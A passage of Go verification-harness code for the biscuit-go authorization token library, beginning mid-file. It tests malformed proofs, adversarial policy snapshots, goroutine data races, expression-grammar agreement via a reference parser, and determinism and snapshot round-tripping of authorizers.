}

// VerifC10ValidChainBadProof: a validly signed chain whose proof secret has the wrong length —
// verification gets past every signature and then meets the proof.
func VerifC10ValidChainBadProof() {
	vForbidPanic("C10")
	vTimerMode(0)
	h := &hSigned{rootSeed: vWide("aroot", 32)}
	h.rootPub = ed25519.PublicKey(vPub(h.rootSeed))
	bytes, _ := hBytes(hBlock("auth", "none"))
	seed := vWide("aseed", 32)
	pub := vPub(seed)
	alg := pb.PublicKey_Ed25519
	sb := &pb.SignedBlock{Block: bytes, NextKey: &pb.PublicKey{Algorithm: &alg, Key: pub}, Signature: vSig(h.rootSeed, cat(bytes, le32(0), pub))}
	n := [...]int{0, 1, 31, 33, 64}[vChoose("secretlen", 5)]
	vLabel("valid chain, next secret of wrong length")
	c := &pb.Biscuit{Authority: sb, Proof: &pb.Proof{Content: &pb.Proof_NextSecret{NextSecret: vBytes("secret", n)}}}
	data, err := hBytes(c)
	if err != nil {
		return
	}
	tok, err := Unmarshal(data)
	if err != nil {
		vCover("rejected-at-unmarshal")
		return
	}
	vCover("unmarshalled")
	hExercise(tok, h.rootPub, &chainRNG{})
}

// VerifC10Policies: adversarial authorizer snapshots.
func VerifC10Policies() {
	vForbidPanic("C10")
	vTimerMode(0)
	// one adversarial element at a time: metadata, the fact, or head/body/expression of the rule, the check or the policy
	family := vChoose("family", 11)
	ver := uint32(3)
	kind := pb.Policy_Allow
	ap := &pb.AuthorizerPolicies{Symbols: []string{"s"}}
	foc := func(container int) string {
		if family >= 2 && (family-2)/3 == container {
			return []string{"head", "body", "expr"}[(family-2)%3]
		}
		return "none"
	}
	if family == 0 {
		vLabel("policies focus=meta")
		ver = vUint32("version")
		kind = pb.Policy_Kind(vInt32("polkind"))
		ap.Symbols = nil
		n := vChoose("nsyms", 3)
		for i := 0; i < n; i++ {
			ap.Symbols = append(ap.Symbols, vString("sym", 1))
		}
	} else {
		vLabel("policies focus=content")
	}
	ap.Version = &ver
	ap.Facts = []*pb.FactV2{{Predicate: hPred("pf", 1, family == 1)}}
	ap.Rules = []*pb.RuleV2{hRule("pr", foc(0))}
	ap.Checks = []*pb.CheckV2{{Queries: []*pb.RuleV2{hRule("pc", foc(1))}}}
	ap.Policies = []*pb.Policy{{Kind: &kind, Queries: []*pb.RuleV2{hRule("pq", foc(2))}}}
	data, err := hBytes(ap)
	if err != nil {
		return
	}
	g := gBuildToken(gBlock{facts: []gAtom{{name: "a", c: 1}}}, nil)
	a, err := NewVerifier(g.tok, gPatient)
	if err != nil {
		return
	}
	lerr := a.LoadPolicies(data)
	vCover("loaded")
	if lerr == nil {
		vCover("accepted")
		a.Authorize()
		_ = a.PrintWorld()
		a.Query(Rule{Head: Predicate{Name: "r", IDs: []Term{Variable("v")}}, Body: []Predicate{{Name: "a", IDs: []Term{Variable("v")}}}})
	}
	// arbitrary non-message bytes
	a2, _ := NewVerifier(g.tok, gPatient)
	vAssert(a2.LoadPolicies(vBytes("garbage", 3)) != nil, "C10.policies-garbage-rejected")
}

// VerifC10LeakedWork: evaluation of a token's checks must not leave a library goroutine behind that
// still writes to state the caller goes on using (the symbol table grows when string concatenation is
// evaluated): such a write is a data race with the caller, and a torn slice header terminates the
// process on a goroutine no application can recover. The check's head names a variable that its body
// does not bind (the evaluation of that query ends early) and its expression concatenates strings.
func VerifC10LeakedWork() {
	vForbidPanic("C10")
	vRaceDetect("C10")
	vTimerMode(0)
	rng := &chainRNG{}
	root := ed25519Key(vWide("root", 32))
	b := NewBuilder(root, WithRNG(rng))
	b.AddAuthorityFact(Fact{Predicate{Name: "f", IDs: []Term{String("s0")}}})
	b.AddAuthorityFact(Fact{Predicate{Name: "f", IDs: []Term{String("s1")}}})
	head := Predicate{Name: "q", IDs: []Term{Variable("zz")}}
	if vChoose("head", 2) == 1 {
		head = Predicate{Name: "q", IDs: []Term{Variable("a")}}
		vLabel("well-formed head")
	} else {
		vLabel("unbound head variable")
	}
	q := Rule{Head: head,
		Body:        []Predicate{{Name: "f", IDs: []Term{Variable("a")}}, {Name: "f", IDs: []Term{Variable("b")}}},
		Expressions: []Expression{{Value{Variable("a")}, Value{Variable("b")}, BinaryAdd, Value{String("s0s0")}, BinaryEqual}}}
	where := vChoose("where", 2)
	if where == 0 {
		vLabel("token check")
		b.AddAuthorityCheck(Check{Queries: []Rule{q}})
	}
	tok, err := b.Build()
	if err != nil {
		return
	}
	data, err := tok.Serialize()
	if err != nil {
		return
	}
	tok, err = Unmarshal(data)
	if err != nil {
		return
	}
	a, err := NewVerifier(tok, gPatient)
	if err != nil {
		return
	}
	if where == 1 {
		vLabel("authorizer query")
		a.AddPolicy(DefaultAllowPolicy)
		a.Query(q)
	} else {
		a.AddPolicy(DefaultAllowPolicy)
		a.Authorize()
	}
	vCover("evaluated")
	// the caller goes on using its authorizer
	_ = a.PrintWorld()
	a.AddCheck(Check{Queries: []Rule{{Head: Predicate{Name: "query"}, Body: []Predicate{{Name: "f", IDs: []Term{String("fresh")}}}}}})
	a.Authorize()
	vQuiesce()
}
