package parser

// C14 (partial: AST -> Datalog) — the parser's syntax trees denote what the documented grammar says.
// Token sequences are turned into syntax trees by a recursive descent that follows the struct ladder of
// grammar.go with the operator sets read from its struct tags at check time (vTagOps, generated), and
// independently into reference trees by a precedence climber written from GRAMMAR.md. The real
// ToExpr -> convert -> Evaluate pipeline must agree with the reference evaluation for all leaf values.

import (
	"crypto/ed25519"
	"fmt"
	"reflect"
	"strings"

	"github.com/biscuit-auth/biscuit-go/v2"
	"github.com/biscuit-auth/biscuit-go/v2/datalog"
)

type c14Tok struct {
	kind string // "leaf", "op", "(", ")", "!"
	op   string
	iv   int64
	bv   bool
	isB  bool
	term *Term // special leaves (parameters, sets)
}

var c14Infix = []string{"||", "&&", "<=", ">=", "<", ">", "==", "+", "-", "*", "/"}

func c14In(level, op string) bool {
	for _, o := range vTagOps[level] {
		if o == op {
			return true
		}
	}
	return false
}

// ---- recursive descent following the struct ladder of grammar.go

type c14P struct {
	toks []c14Tok
	pos  int
	bad  bool
}

func (p *c14P) peekOp(level string) (string, bool) {
	if p.pos < len(p.toks) && p.toks[p.pos].kind == "op" && c14In(level, p.toks[p.pos].op) {
		return p.toks[p.pos].op, true
	}
	return "", false
}

func c14Operator(s string) Operator { return operatorMap[s] }

func (p *c14P) expect(kind string) bool {
	if p.pos < len(p.toks) && p.toks[p.pos].kind == kind {
		p.pos++
		return true
	}
	p.bad = true
	return false
}

// The functions parse_Expression, parse_Expr1 ... are generated from grammar.go's struct definitions
// (zz_verif_c14_ladder.go); only the leaves are written here.

func (p *c14P) parse_ExprTerm() *ExprTerm { return p.exprTerm() }

func (p *c14P) expression() *Expression { return p.parse_Expression() }

func (p *c14P) exprTerm() *ExprTerm {
	if p.pos >= len(p.toks) {
		p.bad = true
		return &ExprTerm{}
	}
	t := p.toks[p.pos]
	switch t.kind {
	case "(":
		p.pos++
		inner := p.parse_Expression()
		if p.pos >= len(p.toks) || p.toks[p.pos].kind != ")" {
			p.bad = true
			return &ExprTerm{}
		}
		p.pos++
		return &ExprTerm{Expression: inner}
	case "leaf":
		p.pos++
		if t.term != nil {
			return &ExprTerm{Term: t.term}
		}
		if t.isB {
			b := Bool(t.bv)
			return &ExprTerm{Term: &Term{Bool: &b}}
		}
		v := t.iv
		return &ExprTerm{Term: &Term{Integer: &v}}
	}
	p.bad = true
	return &ExprTerm{}
}

// ---- reference: precedence climbing from GRAMMAR.md
// || < && < comparisons (not associative) < + - < * / < ! < parentheses

type c14Node struct {
	op   string // "" leaf, "!" unary, "()" parens, else binary
	l, r *c14Node
	tok  c14Tok
}

var c14Prec = map[string]int{"||": 1, "&&": 2, "<=": 3, ">=": 3, "<": 3, ">": 3, "==": 3, "+": 4, "-": 4, "*": 5, "/": 5}

type c14R struct {
	toks []c14Tok
	pos  int
	bad  bool
}

func (r *c14R) primary() *c14Node {
	if r.pos >= len(r.toks) {
		r.bad = true
		return &c14Node{}
	}
	t := r.toks[r.pos]
	switch t.kind {
	case "!":
		r.pos++
		return &c14Node{op: "!", l: r.primary()}
	case "(":
		r.pos++
		n := r.climb(1)
		if r.pos >= len(r.toks) || r.toks[r.pos].kind != ")" {
			r.bad = true
			return n
		}
		r.pos++
		return &c14Node{op: "()", l: n}
	case "leaf":
		r.pos++
		return &c14Node{tok: t}
	}
	r.bad = true
	return &c14Node{}
}

func (r *c14R) climb(min int) *c14Node {
	left := r.primary()
	for r.pos < len(r.toks) && r.toks[r.pos].kind == "op" {
		op := r.toks[r.pos].op
		pr := c14Prec[op]
		if pr < min {
			break
		}
		r.pos++
		right := r.climb(pr + 1) // left associative
		left = &c14Node{op: op, l: left, r: right}
		if pr == 3 {
			// comparisons do not chain: a second comparison at this level is a syntax error
			if r.pos < len(r.toks) && r.toks[r.pos].kind == "op" && c14Prec[r.toks[r.pos].op] == 3 {
				r.bad = true
				return left
			}
		}
	}
	return left
}

type c14Val struct {
	isBool bool
	i      int64
	b      bool
	err    bool
}

func c14Eval(n *c14Node) c14Val {
	switch n.op {
	case "":
		if n.tok.isB {
			return c14Val{isBool: true, b: n.tok.bv}
		}
		return c14Val{i: n.tok.iv}
	case "()":
		return c14Eval(n.l)
	case "!":
		v := c14Eval(n.l)
		if v.err || !v.isBool {
			return c14Val{err: true}
		}
		return c14Val{isBool: true, b: !v.b}
	}
	a, b := c14Eval(n.l), c14Eval(n.r)
	if a.err || b.err {
		return c14Val{err: true}
	}
	switch n.op {
	case "||", "&&":
		if !a.isBool || !b.isBool {
			return c14Val{err: true}
		}
		if n.op == "||" {
			return c14Val{isBool: true, b: vOr(a.b, b.b)}
		}
		return c14Val{isBool: true, b: vAnd(a.b, b.b)}
	case "==":
		if a.isBool != b.isBool {
			return c14Val{err: true}
		}
		if a.isBool {
			return c14Val{isBool: true, b: a.b == b.b}
		}
		return c14Val{isBool: true, b: a.i == b.i}
	case "<", "<=", ">", ">=":
		if a.isBool || b.isBool {
			return c14Val{err: true}
		}
		switch n.op {
		case "<":
			return c14Val{isBool: true, b: a.i < b.i}
		case "<=":
			return c14Val{isBool: true, b: a.i <= b.i}
		case ">":
			return c14Val{isBool: true, b: a.i > b.i}
		}
		return c14Val{isBool: true, b: a.i >= b.i}
	}
	if a.isBool || b.isBool {
		return c14Val{err: true}
	}
	switch n.op {
	case "+":
		if vOvfAdd(a.i, b.i) {
			return c14Val{err: true}
		}
		return c14Val{i: a.i + b.i}
	case "-":
		if vOvfSub(a.i, b.i) {
			return c14Val{err: true}
		}
		return c14Val{i: a.i - b.i}
	case "*":
		if vOvfMul(a.i, b.i) {
			return c14Val{err: true}
		}
		return c14Val{i: a.i * b.i}
	default:
		if b.i == 0 {
			return c14Val{err: true}
		}
		if vAnd(a.i == -9223372036854775808, b.i == -1) {
			return c14Val{err: true}
		}
		return c14Val{i: a.i / b.i}
	}
}

func c14Text(toks []c14Tok) string {
	var sb strings.Builder
	for i, t := range toks {
		if i > 0 {
			sb.WriteByte(' ')
		}
		switch t.kind {
		case "leaf":
			switch {
			case t.term != nil && t.term.String != nil:
				fmt.Fprintf(&sb, "%q", *t.term.String)
			case t.term != nil && t.term.Set != nil:
				sb.WriteString("[")
				for k, e := range t.term.Set {
					if k > 0 {
						sb.WriteString(", ")
					}
					fmt.Fprintf(&sb, "%d", *e.Integer)
				}
				sb.WriteString("]")
			case t.isB:
				fmt.Fprintf(&sb, "%t", t.bv)
			default:
				fmt.Fprintf(&sb, "%d", t.iv)
			}
		case "op":
			if c14Prec[t.op] == 0 {
				sb.WriteString(". ") // method call
			}
			sb.WriteString(t.op)
		default:
			sb.WriteString(t.kind)
		}
	}
	return sb.String()
}

// method-call leaves: LEFT.method(ARG), written out as tokens for the ladder and as ONE atomic leaf with
// its documented value for the reference (method calls bind tightest).
func c14StrTerm(s string) *Term { return &Term{String: &s} }
func c14IntTerm(v int64) *Term  { return &Term{Integer: &v} }

type c14Leaf struct {
	toks []c14Tok // expanded form
	ref  c14Tok   // atomic reference leaf (kind "leaf" with its value)
}

func c14MethodLeaf(k int) c14Leaf {
	op := func(m string) c14Tok { return c14Tok{kind: "op", op: m} }
	lp, rp := c14Tok{kind: "("}, c14Tok{kind: ")"}
	sl := func(s string) c14Tok { return c14Tok{kind: "leaf", term: c14StrTerm(s)} }
	strCase := func(m, s, t string, val bool) c14Leaf {
		return c14Leaf{toks: []c14Tok{sl(s), op(m), lp, sl(t), rp}, ref: c14Tok{kind: "leaf", isB: true, bv: val}}
	}
	switch k {
	case 0:
		return strCase("starts_with", "abc", "ab", true)
	case 1:
		return strCase("starts_with", "abc", "bc", false)
	case 2:
		return strCase("ends_with", "abc", "bc", true)
	case 3:
		return strCase("ends_with", "abc", "ab", false)
	case 4:
		return strCase("contains", "abc", "b", true)
	case 5:
		return strCase("contains", "abc", "^a.c$", false)
	case 6:
		return strCase("matches", "abc", "^a.c$", true)
	case 7:
		return strCase("matches", "abc", "b$", false)
	case 8:
		return c14Leaf{toks: []c14Tok{sl("abcd"), op("length"), lp, rp}, ref: c14Tok{kind: "leaf", iv: 4}}
	}
	// sets of integers with symbolic members
	a, b, x, y := vInt64("set.a"), vInt64("set.b"), vInt64("set.x"), vInt64("set.y")
	vAssume(vAnd(vAnd(a >= 0, b >= 0), vAnd(x >= 0, y >= 0)))
	vAssume(a != b)
	set := c14Tok{kind: "leaf", term: &Term{Set: []*Term{c14IntTerm(a), c14IntTerm(b)}}}
	one := c14Tok{kind: "leaf", term: &Term{Set: []*Term{c14IntTerm(x)}}}
	il := func(v int64) c14Tok { return c14Tok{kind: "leaf", iv: v} }
	inAB := vOr(y == a, y == b)
	switch k {
	case 9:
		return c14Leaf{toks: []c14Tok{set, op("contains"), lp, il(y), rp}, ref: c14Tok{kind: "leaf", isB: true, bv: inAB}}
	case 10:
		return c14Leaf{toks: []c14Tok{set, op("union"), lp, one, rp, op("contains"), lp, il(y), rp},
			ref: c14Tok{kind: "leaf", isB: true, bv: vOr(inAB, y == x)}}
	case 11:
		return c14Leaf{toks: []c14Tok{set, op("intersection"), lp, one, rp, op("contains"), lp, il(y), rp},
			ref: c14Tok{kind: "leaf", isB: true, bv: vAnd(vOr(x == a, x == b), y == x)}}
	}
	return c14Leaf{toks: []c14Tok{set, op("length"), lp, rp}, ref: c14Tok{kind: "leaf", iv: 2}}
}

const c14Methods = 13

// c14Tokens generates a token sequence: up to B infix operators over symbolic leaves (or, when the
// scenario asks for them, method-call leaves), optionally one leading '!' and one parenthesised
// sub-range. It returns the expanded tokens (for the ladder) and the reference tokens.
func c14Tokens() ([]c14Tok, []c14Tok) {
	B := vParam("ops")
	n := vChoose("nops", B+1)
	bools := vChoose("leaf-kind", 2) == 1
	withMethods := vParam("methods") != 0
	nleaf := 0
	leaf := func() c14Leaf {
		nleaf++
		// at most one method-call leaf per sequence (the first or the second leaf)
		if withMethods && nleaf == 1+vParam("methodpos") {
			return c14MethodLeaf(vChoose("method", c14Methods))
		}
		if bools {
			t := c14Tok{kind: "leaf", isB: true, bv: vBool("leaf.bool")}
			return c14Leaf{toks: []c14Tok{t}, ref: t}
		}
		v := vInt64("leaf.int")
		vAssume(v >= 0) // the lexer has no sign: integer literals are non-negative
		t := c14Tok{kind: "leaf", iv: v}
		return c14Leaf{toks: []c14Tok{t}, ref: t}
	}
	leaves := []c14Leaf{leaf()}
	var ops []c14Tok
	for i := 0; i < n; i++ {
		ops = append(ops, c14Tok{kind: "op", op: c14Infix[vChoose("op", len(c14Infix))]})
		leaves = append(leaves, leaf())
	}
	// one parenthesised sub-range of leaves [i..j] (a single leaf and the whole sentence included), or none;
	// the group is written once or, when the family says so, up to three times nested: ((...))
	type rng struct{ i, j int }
	ranges := []rng{{-1, -1}}
	for i := 0; i <= n; i++ {
		for j := i; j <= n; j++ {
			ranges = append(ranges, rng{i, j})
		}
	}
	pr := ranges[vChoose("parens", len(ranges))]
	depth := 1
	if pr.i >= 0 && vParamOpt("parendepth") > 1 {
		depth = 1 + vChoose("paren-depth", vParamOpt("parendepth"))
	}
	neg := vChoose("negated-leaf", n+2) - 1 // -1: none, else index of the leaf that gets a '!'
	var toks, rtoks []c14Tok
	both := func(t c14Tok) { toks = append(toks, t); rtoks = append(rtoks, t) }
	for k := 0; k <= n; k++ {
		if k > 0 {
			both(ops[k-1])
		}
		if k == pr.i {
			for d := 0; d < depth; d++ {
				both(c14Tok{kind: "("})
			}
		}
		if k == neg {
			both(c14Tok{kind: "!"})
		}
		toks = append(toks, leaves[k].toks...)
		rtoks = append(rtoks, leaves[k].ref)
		if k == pr.j {
			for d := 0; d < depth; d++ {
				both(c14Tok{kind: ")"})
			}
		}
	}
	return toks, rtoks
}

func c14Root() ed25519.PrivateKey {
	return ed25519.NewKeyFromSeed(make([]byte, 32))
}

// c14FirstUse adds a converted check to a builder, a block builder and an authorizer.
func c14FirstUse(c biscuit.Check) {
	b := biscuit.NewBuilder(c14Root())
	b.AddAuthorityCheck(c)
	bb := biscuit.NewBlockBuilder(&datalog.SymbolTable{})
	bb.AddCheck(c)
	bb.Build()
}

func VerifC14Expression() {
	vForbidPanic("C14")
	toks, rtoks := c14Tokens()
	p := &c14P{toks: toks}
	ast := p.expression()
	r := &c14R{toks: rtoks}
	ref := r.climb(1)
	ladderOK := !p.bad && p.pos == len(toks)
	refOK := !r.bad && r.pos == len(rtoks)
	// the tag-derived ladder and the documented grammar accept the same token sequences
	vAssert(ladderOK == refOK, "C14.same-language")
	if !ladderOK || !refOK {
		vCover("not-a-sentence")
		return
	}
	vCover("sentence")
	var expr biscuit.Expression
	ast.ToExpr(&expr, ParametersMap{})
	// structure: the operation sequence is the post-order of the documented tree, every group kept
	if vParam("methods") == 0 {
		var shape []biscuit.Op
		c14Postfix(ref, &shape)
		vAssert(len(shape) == len(expr), "C14.structure")
		if len(shape) == len(expr) {
			for i := range shape {
				if _, isLeaf := shape[i].(biscuit.Value); isLeaf {
					_, isValue := expr[i].(biscuit.Value)
					vAssert(isValue, "C14.structure")
				} else {
					vAssert(shape[i] == expr[i], "C14.structure")
				}
			}
		}
	}
	syms := &datalog.SymbolTable{}
	dl := biscuit.VerifConvertExpression(expr, syms)
	res, err := dl.Evaluate(map[datalog.Variable]*datalog.Term{}, syms)
	want := c14Eval(ref)
	vObserve("error", err != nil)
	vAssert((err != nil) == want.err, "C14.denotation-error")
	if err == nil && !want.err {
		vCover("value")
		if want.isBool {
			b, ok := res.(datalog.Bool)
			vAssert(ok, "C14.denotation-kind")
			if ok {
				vAssert(bool(b) == want.b, "C14.denotation-value")
			}
		} else {
			i, ok := res.(datalog.Integer)
			vAssert(ok, "C14.denotation-kind")
			if ok {
				vAssert(int64(i) == want.i, "C14.denotation-value")
			}
		}
	}
	// first use: the element converted from the tree can be added everywhere without panicking
	q := &CheckQuery{Body: []*RuleElement{{Expression: ast}}}
	rule, qerr := q.ToBiscuit(ParametersMap{})
	vAssert(qerr == nil, "C14.query-converts")
	if qerr == nil {
		c14FirstUse(biscuit.Check{Queries: []biscuit.Rule{*rule}})
	}
	// trusted link, exercised on the native replay only: participle maps the text back to this tree
	if vIsNative() {
		text := "check if " + c14Text(toks)
		parsed, perr := FromStringCheck(text)
		if perr != nil || len(parsed.Queries) != 1 || len(parsed.Queries[0].Expressions) != 1 ||
			!reflect.DeepEqual(parsed.Queries[0].Expressions[0], expr) {
			vAssert(false, "C14.text-to-tree")
		}
	}
}

// VerifC14Errors: unbound parameters and variables inside sets are errors wherever they occur, and
// nothing that converts successfully panics on first use.
func VerifC14Errors() {
	vForbidPanic("C14")
	name := "p"
	pn := Parameter("param")
	vn := Variable("v")
	one := int64(1)
	var bad *Term
	kind := vChoose("bad-term", 4)
	switch kind {
	case 0:
		vLabel("unbound parameter")
		bad = &Term{Parameter: &pn}
	case 1:
		vLabel("bound parameter")
		bad = &Term{Parameter: &pn}
	case 2:
		vLabel("variable inside a set")
		bad = &Term{Set: []*Term{{Integer: &one}, {Variable: &vn}}}
	default:
		vLabel("parameter inside a set, unbound")
		bad = &Term{Set: []*Term{{Parameter: &pn}}}
	}
	params := ParametersMap{}
	if kind == 1 {
		params["param"] = biscuit.Integer(vInt64("paramvalue"))
	}
	expectErr := kind != 1
	where := vChoose("position", 3)
	var q *CheckQuery
	switch where {
	case 0:
		vLabel("in a predicate")
		q = &CheckQuery{Body: []*RuleElement{{Predicate: &Predicate{Name: &name, IDs: []*Term{bad}}}}}
	case 1:
		vLabel("as an expression operand")
		toks := []c14Tok{{kind: "leaf", term: &Term{Variable: &vn}}, {kind: "op", op: "=="}, {kind: "leaf", term: bad}}
		p := &c14P{toks: toks}
		q = &CheckQuery{Body: []*RuleElement{{Predicate: &Predicate{Name: &name, IDs: []*Term{{Variable: &vn}}}}, {Expression: p.expression()}}}
	default:
		vLabel("inside a parenthesised sub-expression")
		toks := []c14Tok{{kind: "("}, {kind: "leaf", term: bad}, {kind: "op", op: "=="}, {kind: "leaf", iv: 1}, {kind: ")"}, {kind: "op", op: "&&"}, {kind: "leaf", isB: true, bv: true}}
		p := &c14P{toks: toks}
		q = &CheckQuery{Body: []*RuleElement{{Expression: p.expression()}}}
	}
	rule, err := q.ToBiscuit(params)
	vCover("converted")
	if expectErr {
		vAssert(err != nil, "C14.error-reported")
	} else {
		vAssert(err == nil, "C14.parameter-substituted")
	}
	if err == nil && rule != nil {
		vCover("first-use")
		c14FirstUse(biscuit.Check{Queries: []biscuit.Rule{*rule}})
	}
	// the same through a rule and a policy
	ruleAst := &Rule{Head: &Predicate{Name: &name, IDs: []*Term{{Integer: &one}}}, Body: q.Body}
	r2, err2 := ruleAst.ToBiscuit(params)
	if expectErr {
		vAssert(err2 != nil, "C14.error-reported-rule")
	}
	if err2 == nil && r2 != nil {
		b := biscuit.NewBuilder(c14Root())
		b.AddAuthorityRule(*r2)
	}
	pol := &Policy{Allow: &Allow{Queries: []*CheckQuery{q}}}
	p2, err3 := pol.ToBiscuit(params)
	if expectErr {
		vAssert(err3 != nil, "C14.error-reported-policy")
	}
	_ = p2
}

// operator codes as documented (the reference does not go through operatorMap / ToExpr)
var c14BinaryOps = map[string]biscuit.BinaryOp{"||": biscuit.BinaryOr, "&&": biscuit.BinaryAnd, "<=": biscuit.BinaryLessOrEqual,
	">=": biscuit.BinaryGreaterOrEqual, "<": biscuit.BinaryLessThan, ">": biscuit.BinaryGreaterThan, "==": biscuit.BinaryEqual,
	"+": biscuit.BinaryAdd, "-": biscuit.BinarySub, "*": biscuit.BinaryMul, "/": biscuit.BinaryDiv}

// c14Postfix: post-order of the reference tree as an operation sequence (leaves as empty Values).
func c14Postfix(n *c14Node, out *[]biscuit.Op) {
	switch n.op {
	case "":
		*out = append(*out, biscuit.Value{})
	case "()":
		c14Postfix(n.l, out)
		*out = append(*out, biscuit.UnaryParens)
	case "!":
		c14Postfix(n.l, out)
		*out = append(*out, biscuit.UnaryNegate)
	default:
		c14Postfix(n.l, out)
		c14Postfix(n.r, out)
		*out = append(*out, c14BinaryOps[n.op])
	}
}
