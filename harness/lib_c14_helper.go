package biscuit

import "github.com/biscuit-auth/biscuit-go/v2/datalog"

// VerifConvertExpression exposes Expression.convert to the parser harness (injected by overlay only).
func VerifConvertExpression(e Expression, s *datalog.SymbolTable) datalog.Expression {
	return e.convert(s)
}
