package biscuit

// C12 — determinism and independence of presentation order. C18 — authorizer snapshots.

import (
	"time"

	"github.com/biscuit-auth/biscuit-go/v2/datalog"
	"github.com/biscuit-auth/biscuit-go/v2/pb"
	"google.golang.org/protobuf/proto"
)

func gSwapAtoms(a []gAtom) []gAtom {
	if len(a) < 2 {
		return a
	}
	out := append([]gAtom{}, a...)
	out[0], out[1] = out[1], out[0]
	return out
}

func VerifC12Presentation() {
	vForbidPanic("C12")
	vTimerMode(0)
	// the transformation decides which part of the content needs two elements
	tr := vChoose("transformation", 9)
	nAuth, nAz := 1, 1
	if tr == 0 {
		nAuth = 2
	}
	if tr == 1 {
		nAz = 2
	}
	authority := gGenBlock("auth", nAuth, vParam("authRule"), vParam("authCheck"))
	var z gAuthz
	z.gBlock = gGenBlock("az", nAz, vParam("azRule"), 0)
	if tr == 2 {
		if r, ok := gGenRule("az.r2", vParam("azRule2")); ok {
			z.rules = append(z.rules, r)
		}
	}
	q0, _ := gGenQuery("az.c0.q0", vParam("qMode"))
	z.checks = [][]gRule{{q0}}
	var q1, q2 gRule
	if tr == 4 {
		q1, _ = gGenQuery("az.c0.q1", vParam("qMode"))
		z.checks = [][]gRule{{q0, q1}}
	}
	if tr == 3 {
		q2, _ = gGenQuery("az.c1.q0", vParam("qMode"))
		z.checks = [][]gRule{{q0}, {q2}}
	}
	z.policies = gGenPolicies("pol", vParam("policies"), vParam("polMode"))
	probe := gProbe("probe")

	g := gBuildToken(authority, nil)
	first := gAuthorize(g.tok, z, probe)
	vObserve("class", first.class)

	authority2, z2 := authority, z
	sameAuthorizer := false
	switch tr {
	case 0:
		vLabel("permute authority facts")
		authority2.facts = gSwapAtoms(authority.facts)
	case 1:
		vLabel("permute authorizer facts")
		z2.facts = gSwapAtoms(z.facts)
	case 2:
		vLabel("permute authorizer rules")
		if len(z.rules) >= 2 {
			z2.rules = []gRule{z.rules[1], z.rules[0]}
		}
	case 3:
		vLabel("permute checks")
		z2.checks = [][]gRule{z.checks[1], z.checks[0]}
	case 4:
		vLabel("permute queries inside a check")
		z2.checks = [][]gRule{{q1, q0}}
	case 5:
		vLabel("rename variable")
	case 6:
		vLabel("duplicate a fact")
		z2.facts = append(append([]gAtom{}, z.facts...), z.facts[0])
	case 7:
		vLabel("authorize twice")
		sameAuthorizer = true
	default:
		vLabel("rename variable to a predicate's name")
	}
	var second gRun
	if sameAuthorizer {
		a, err := NewVerifier(g.tok, gPatient)
		if err != nil {
			return
		}
		gLoad(a, z)
		a.Authorize()
		second.class = gClass(a.Authorize())
		fs, qerr := a.Query(probe)
		second.facts, second.qerr = fs, qerr != nil
	} else {
		if tr == 5 {
			gVarName = "y"
		}
		if tr == 8 {
			gVarName = "a" // the same text as a predicate name: variables and names share the symbol table
		}
		g2 := g
		if tr == 0 {
			g2 = gBuildToken(authority2, nil)
		}
		second = gAuthorize(g2.tok, z2, probe)
		gVarName = "x"
	}
	vCover("compared")
	vAssert(first.class == second.class, "C12.same-outcome")
	vAssert(first.qerr == second.qerr, "C12.same-query-error")
	if !first.qerr && !second.qerr {
		vAssert(gSetEq(first.facts, second.facts), "C12.same-derived-facts")
	}
}

// VerifC18Snapshot: saving an unevaluated authorizer and loading it elsewhere gives an equivalent one.
func VerifC18Snapshot() {
	vForbidPanic("C18")
	vTimerMode(0)
	authority := gGenBlock("auth", vParam("authFacts"), vParam("authRule"), vParam("authCheck"))
	var z gAuthz
	z.gBlock = gGenBlock("az", vParam("azFacts"), vParam("azRule"), vParam("azCheck"))
	z.policies = gGenPolicies("pol", vParam("policies"), vParam("polMode"))
	// a second check, with two alternative queries, so that "all checks" and "all queries" are restored
	// (its names are taken from content that exists already, so that it adds no name coincidences to explore)
	nm := authority.facts[0].name
	q1 := gRule{body: []gAtom{{name: nm, c: vInt64("az.c2.k")}}}
	q2 := gRule{body: []gAtom{{name: nm, isVar: true}}}
	z.checks = append(z.checks, []gRule{q1, q2})
	probe := gProbe("probe")
	g := gBuildToken(authority, nil)
	target := g.tok
	if vChoose("other-token", 2) == 1 {
		vLabel("loaded for another token")
		other := gGenBlock("auth2", 1, 0, 0)
		target = gBuildToken(other, nil).tok
	}
	src, err := NewVerifier(g.tok, gPatient)
	if err != nil {
		return
	}
	gLoad(src, z)
	data, err := src.SerializePolicies()
	vAssert(err == nil, "C18.save")
	if err != nil {
		return
	}
	data2, err2 := src.SerializePolicies()
	// saving leaves the authorizer unevaluated: it can be saved again (which of the two snapshots is
	// loaded below is the solver's choice when the family asks for it)
	vAssert(err2 == nil, "C18.save-again")
	if err2 == nil && vParamOpt("secondSave") == 1 {
		data = data2
	}
	dst, err := NewVerifier(target, gPatient)
	if err != nil {
		return
	}
	lerr := dst.LoadPolicies(data)
	vAssert(lerr == nil, "C18.load")
	if lerr != nil {
		return
	}
	var restored gRun
	restored.class = gClass(dst.Authorize())
	fs, qerr := dst.Query(probe)
	restored.facts, restored.qerr = fs, qerr != nil
	direct := gAuthorize(target, z, probe)
	vObserve("class", direct.class)
	vCover("compared")
	vAssert(restored.class == direct.class, "C18.same-outcome")
	vAssert(restored.qerr == direct.qerr, "C18.same-query-error")
	if !restored.qerr && !direct.qerr {
		vAssert(gSetEq(restored.facts, direct.facts), "C18.same-query-result")
	}
	// the original authorizer, used after it was saved, still gives the outcome of its content
	if vSameToken(target, g.tok) {
		var orig gRun
		orig.class = gClass(src.Authorize())
		ofs, oqerr := src.Query(probe)
		orig.facts, orig.qerr = ofs, oqerr != nil
		vAssert(orig.class == direct.class, "C18.original-unchanged-by-saving")
		if !orig.qerr && !direct.qerr {
			vAssert(gSetEq(orig.facts, direct.facts), "C18.original-unchanged-by-saving")
		}
	} else {
		src.Authorize()
	}
	// saving is refused once the authorizer has been evaluated
	_, err = src.SerializePolicies()
	vAssert(err != nil, "C18.refused-after-authorize")
	// ... and stays refused whatever is done to the evaluated authorizer next: loading a (valid) snapshot
	// into it does not make it an unevaluated one -- what evaluation merged into it is still there
	src.LoadPolicies(data)
	_, err = src.SerializePolicies()
	vAssert(err != nil, "C18.refused-after-authorize-and-load")
	q, err := NewVerifier(g.tok, gPatient)
	if err == nil {
		gLoad(q, z)
		q.Query(probe)
		_, err = q.SerializePolicies()
		vAssert(err != nil, "C18.refused-after-query")
	}
}

// VerifC12RuleOrder: a chain of three rules gives the same outcome and the same derived facts in
// every order of registration (here all six), also when one of the rules lives in the token.
func VerifC12RuleOrder() {
	vForbidPanic("C12")
	vTimerMode(0)
	gNames, gVarName = 0, "x"
